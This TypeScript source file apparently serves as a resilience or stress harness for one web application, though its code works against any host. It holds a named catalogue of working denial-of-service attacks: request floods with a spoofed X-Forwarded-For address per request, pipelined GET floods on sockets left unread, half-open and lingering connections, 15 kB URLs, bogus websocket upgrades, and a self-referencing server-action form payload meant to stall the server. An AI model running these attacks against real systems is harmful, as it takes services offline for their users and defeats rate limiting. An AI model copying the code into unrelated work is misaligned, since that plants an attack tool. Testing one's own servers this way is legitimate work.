import { randomInt } from 'node:crypto'
import { once } from 'node:events'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'

type Target = { url: string; host: string; port: number; script: string }
/** One of many parallel requests, as method, path, headers and body. */
type Ask = () => { method?: string; path: string; headers?: Record<string, string>; body?: string }
type Attack = (
  target: Target,
  until: number,
  count: (outcome: string | number) => void,
) => Promise<void>

const any = () => randomInt(2 ** 40).toString(36)
const address = () => `10.${randomInt(256)}.${randomInt(256)}.${randomInt(1, 255)}`

/** Keeps a number of requests in progress until the time is over, each from a separate address. */
function parallel(many: number, ask: Ask): Attack {
  return async ({ host, port }, until, count) => {
    const agent = new Agent({ keepAlive: true, maxSockets: many })
    const one = async () => {
      const { body, ...rest } = ask()
      const headers = { ...rest.headers, 'x-forwarded-for': address() }
      const sent = request({ host, port, agent, ...rest, headers }).end(body)
      const [response] = await once(sent, 'response')
      response.resume()
      await once(response, 'end')
      count(response.statusCode)
    }
    const line = async () => {
      while (Date.now() < until) await one().catch(() => count('broken'))
    }
    await Promise.all(Array.from({ length: many }, line))
    agent.destroy()
  }
}

/**
 * Writes many requests at once to each of some connections, does not read, and closes them at once or after a while.
 */
function pipelined(
  many: number,
  connections: number,
  path: (target: Target) => string,
  holdMs: number,
): Attack {
  return async (target, until, count) => {
    const line = async () => {
      while (Date.now() < until) {
        const socket = connect(target.port, target.host)
        socket.on('error', () => count('reset'))
        const text = `GET ${path(target)} HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: identity\r\n\r\n`
        socket.pause()
        socket.write(text.repeat(many))
        await once(socket, 'connect').catch(() => undefined)
        await new Promise((resolve) => setTimeout(resolve, holdMs))
        socket.destroy()
        count('sent')
      }
    }
    await Promise.all(Array.from({ length: connections }, line))
  }
}

/** Opens connections that write and then close their sending side, or not, and wait at most 15 s for the server to close them. */
function opened(connections: number, text: () => string, halfClosed: boolean): Attack {
  return async ({ host, port }, until, count) => {
    const line = async () => {
      while (Date.now() < until) {
        const socket = connect({ host, port, allowHalfOpen: true })
        const timer = setTimeout(() => socket.destroy(new Error('kept open')), 15_000)
        socket.on('error', ({ message }) => count(message))
        let status = 'no answer'
        socket.once('data', (data) => (status = data.toString('latin1', 9, 12)))
        socket.write(`${text()}\r\nHost: localhost\r\nX-Forwarded-For: ${address()}\r\n\r\n`)
        if (halfClosed) socket.end()
        socket.once('end', () => count(status))
        await once(socket.resume(), 'end').catch(() => undefined)
        clearTimeout(timer)
        socket.destroy()
      }
    }
    await Promise.all(Array.from({ length: connections }, line))
  }
}

const rendered: Ask = () => {
  const pages = [
    `/about/news?q=${any()}`,
    `/about/news/${any()}`,
    `/about/news?${any()}=1`,
    `/passport/login?return=/${any()}`,
    `/staff?${any()}`,
    `/staff/sign-in?next=/staff/${any()}`,
    `/enrol?project=${any()}`,
    `/about/news?q=${any()}&_rsc=${any()}`,
  ]
  return { path: pages[randomInt(pages.length)] ?? '/' }
}

const form: Ask = () => {
  const body = `--b\r\nContent-Disposition: form-data; name="phone"\r\n\r\n${any()}\r\n--b--\r\n`
  const headers = {
    'content-type': 'multipart/form-data; boundary=b',
    'content-length': String(body.length),
  }
  return { method: 'POST', path: '/passport/login', headers, body }
}

/** A form whose server reference waits for its own arguments, and an address that is long. */
const circular: Ask = () => {
  const fields = {
    1: '{"id":"70","bound":"$@0"}',
    0: '["$h1"]',
    $ACTION_REF_1: '',
    '$ACTION_1:0': '["$h0"]',
  }
  const parts = Object.entries(fields).map(
    ([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  )
  const body = `${parts.join('')}--b--\r\n`
  const headers = {
    'content-type': 'multipart/form-data; boundary=b',
    'content-length': String(body.length),
  }
  return { method: 'POST', path: '/enrol', headers, body }
}
const long: Ask = () => {
  const paths = [`/_page/${'a'.repeat(22)}/${'a'.repeat(15_000)}`, `/x${'/'.repeat(15_000)}x/`]
  return { path: paths[randomInt(paths.length)] ?? '/' }
}

/** The attacks by name, with the printed description. */
export const attacks: Readonly<Record<string, { title: string; attack: Attack }>> = {
  enrol: {
    title: '400 pipelined GET /enrol, closed at once, 4 connections, repeated',
    attack: pipelined(400, 4, () => '/enrol', 20),
  },
  renders: {
    title: '150 parallel rendered pages, random addresses',
    attack: parallel(150, rendered),
  },
  forms: { title: '150 parallel forms posted to /passport/login', attack: parallel(150, form) },
  circular: {
    title: '150 parallel forms whose server references wait for themselves',
    attack: parallel(150, circular),
  },
  halves: {
    title: '150 parallel rendered pages whose clients close their sending side at once',
    attack: opened(150, () => `GET ${rendered().path} HTTP/1.1`, true),
  },
  upgrades: {
    title: '150 parallel upgrades to a protocol that the server does not speak',
    attack: opened(
      150,
      () => `GET /?${any()} HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket`,
      false,
    ),
  },
  long: { title: '20 parallel addresses of 15 kB', attack: parallel(20, long) },
  calls: {
    title: '150 parallel calls for articles',
    attack: parallel(150, () => ({ path: `/api/cms/api/v1/articles?channel=news&q=${any()}` })),
  },
  scripts: {
    title: '2,500 pipelined uncompressed scripts, unread for 2 s, 8 connections, repeated',
    attack: pipelined(2_500, 8, ({ script }) => script, 2_000),
  },
  uncompressed: {
    title: '150 parallel uncompressed pages',
    attack: parallel(150, () => ({ path: '/', headers: { 'accept-encoding': 'identity' } })),
  },
}
